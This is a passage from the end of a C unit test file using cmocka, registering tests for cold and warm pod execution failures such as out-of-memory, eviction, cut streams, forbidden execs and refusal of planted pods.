		cmocka_unit_test_setup_teardown(test_cold_exec_oom, setup, teardown),
		cmocka_unit_test_setup_teardown(test_cold_exec_oom_status_128, setup, teardown),
		cmocka_unit_test_setup_teardown(test_cold_exec_evicted, setup, teardown),
		cmocka_unit_test_setup_teardown(test_cold_exec_network_none, setup, teardown),
		cmocka_unit_test_setup_teardown(test_cold_exec_that_hangs_is_tried_again, setup,
		                                teardown),
		cmocka_unit_test_setup_teardown(test_exec_forbidden, setup, teardown),
		cmocka_unit_test_setup_teardown(test_warm_exec_unanswered_goes_cold, setup,
		                                teardown),
		cmocka_unit_test_setup_teardown(test_warm_given_up_with_keep_is_deleted, setup,
		                                teardown),
		cmocka_unit_test_setup_teardown(test_warm_pod_deleted_under_the_run, setup,
		                                teardown),
		cmocka_unit_test_setup_teardown(test_warm_pod_gone_stream_cut, setup, teardown),
		cmocka_unit_test_setup_teardown(test_warm_oom, setup, teardown),
		cmocka_unit_test_setup_teardown(test_warm_evicted, setup, teardown),
		cmocka_unit_test_setup_teardown(test_warm_stream_cut, setup, teardown),
		cmocka_unit_test_setup_teardown(test_planted_pod_is_refused, setup, teardown),
		cmocka_unit_test_setup_teardown(test_pool_delete_retires_first, setup, teardown),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
